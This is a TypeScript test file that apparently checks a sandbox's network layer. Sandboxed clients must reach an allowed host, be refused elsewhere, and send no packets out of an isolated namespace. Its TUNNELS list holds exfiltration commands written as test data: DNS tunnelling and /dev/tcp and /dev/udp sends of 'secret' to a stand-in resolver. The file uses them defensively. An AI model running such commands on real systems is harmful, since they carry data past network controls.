/**
 * Every client alone in a sandbox with a network reaches the allowed host once its question is answered, but not the other host. If possible
 * (root, tcpdump, ip), in a separate network whose packets are counted: no name query leaves it, nor anything else.
 * Arguments: the user that runs the clients (a name; by default the current user), and for how many seconds a connection is held.
 */

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { CLIENTS, noNetworkHere, type SandboxNetwork, startSandboxNetwork } from '../fixtures/sandbox-network.ts';

if (noNetworkHere) throw new Error(noNetworkHere);
const STAGE = 'CODER_TEST_STAGE';
/** A network with a route that leads nowhere, so that everything sent out can be seen. */
const NETWORK = `
ip link set lo up && ip link add out type veth peer name far && ip link set out arp off addrgenmode none && ip link set far addrgenmode none &&
ip addr add 192.0.2.77/24 dev out && ip link set out up && ip link set far up && ip route add default via 192.0.2.1 && exec "$@"`;
/** Attempts to smuggle data out through name queries, bypassing the session's resolver. */
const TUNNELS = [
  'getent hosts secret-in-a-name.tunnel.test',
  'dig +time=1 +tries=1 secret.tunnel.test @192.0.2.53',
  'dig +time=1 +tries=1 +tcp secret.tunnel.test @192.0.2.53',
  'nslookup -timeout=1 secret.tunnel.test 192.0.2.53',
  "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'secret', ('192.0.2.53', 53))\"",
  'echo secret > /dev/udp/192.0.2.53/53',
  'echo secret > /dev/tcp/192.0.2.53/53',
  "./node -e \"const r = new (require('dns').Resolver)({ timeout: 500, tries: 1 }); r.setServers(['192.0.2.53']); r.resolve('secret.tunnel.test', () => process.exit(0))\"",
];

const [user = '', held = '1'] = process.argv.slice(2);
const stage = process.env[STAGE];
const canCount = process.getuid?.() === 0 && ['tcpdump', 'ip', 'unshare', 'setpriv'].every(isInstalled);
if (stage === 'clients' || !canCount) await tryAll();
else if (stage === 'count') await countWhile();
else {
  const argv = ['-n', 'sh', '-c', NETWORK, 'sh', process.execPath, ...process.argv.slice(1)];
  const { status } = spawnSync('unshare', argv, { stdio: 'inherit', env: { ...process.env, [STAGE]: 'count' } });
  process.exitCode = status ?? 1;
}

/** Runs the clients as the given user and counts the packets that leave. */
async function countWhile(): Promise<void> {
  const folder = mkdtempSync('/var/tmp/coder-packets-');
  try {
    const count = await countPackets(folder);
    const as = user === '' ? [] : ['setpriv', '--reuid', user, '--regid', user, '--init-groups', '--'];
    const [program = '', ...rest] = [...as, process.execPath, ...process.argv.slice(1)];
    const env = { ...process.env, [STAGE]: 'clients', HOME: '/nonexistent', TMPDIR: '/var/tmp' };
    const code = await new Promise((resolve) => spawn(program, rest, { stdio: 'inherit', env }).on('exit', resolve));
    assert.equal(code, 0);
    spawnSync('sh', ['-c', 'getent hosts control.tunnel.test'], { timeout: 3000 }); // the control: must be seen
    const { names, all } = await count();
    const isControl = (row: string) => row.includes('control.tunnel.test');
    assert.ok(names.some(isControl), 'a query that leaves would not be seen');
    const others = all.filter((row) => !isControl(row));
    console.log(`${names.filter((row) => !isControl(row)).length} queries for names and ${others.length} packets left`);
    assert.deepEqual(others, []);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

async function tryAll(): Promise<void> {
  const network = await startSandboxNetwork(true);
  try {
    const { layer } = await network.sandbox.status();
    console.log(`user ${process.getuid?.()}, ${layer}`);
    for (const name of Object.keys(CLIENTS)) await tryClient(network, name);
    for (const line of TUNNELS) await network.run(line, async () => false);
    assert.deepEqual(network.looked, []);
  } finally {
    await network.close();
  }
}

async function tryClient({ has, run, dialled }: SandboxNetwork, name: string): Promise<void> {
  const { port = 0, line = () => '', prints = /stand-in/ } = CLIENTS[name] ?? {};
  if (!has(name)) return console.log(`${name}: not installed`);
  const reached = await run(line('allowed.test'), async (host) => {
    await new Promise((resolve) => setTimeout(resolve, Number(held) * 1000)); // as a person deciding would take
    return host.name === 'allowed.test';
  });
  assert.match(reached.text, prints, name);
  assert.deepEqual(reached.report?.reached, [`allowed.test:${port}`], name);
  const before = dialled.length;
  const refused = await run(line('denied.test'), async () => false);
  assert.notEqual(refused.code, 0, name);
  assert.deepEqual(refused.report?.refused, [`denied.test:${port}`], name);
  assert.equal(dialled.length, before, name);
  console.log(`${name}: held ${held} s and reached by ${port}, refused elsewhere`);
}

/** Starts counting; the returned function stops and resolves with all packets to other machines, and the name queries among them. */
async function countPackets(folder: string): Promise<() => Promise<{ names: string[]; all: string[] }>> {
  const file = join(folder, 'packets');
  const capture = spawn('tcpdump', ['-i', 'out', '-U', '-w', file], { stdio: ['ignore', 'ignore', 'pipe'] });
  await new Promise((resolve) => capture.stderr.once('data', resolve)); // once it listens
  return async () => {
    await new Promise((resolve) => setTimeout(resolve, 500)); // until the last packets are written
    capture.kill('SIGINT');
    await new Promise((resolve) => capture.once('exit', resolve));
    assert.ok(readFileSync(file).length > 0);
    const rows = (filter: string) =>
      spawnSync('tcpdump', ['-n', '-r', file, ...(filter === '' ? [] : [filter])], { encoding: 'utf8' })
        .stdout.trim()
        .split('\n')
        .filter(Boolean);
    return { names: rows('port 53'), all: rows('') };
  };
}

function isInstalled(name: string): boolean {
  return spawnSync('sh', ['-c', `command -v ${name}`]).status === 0;
}
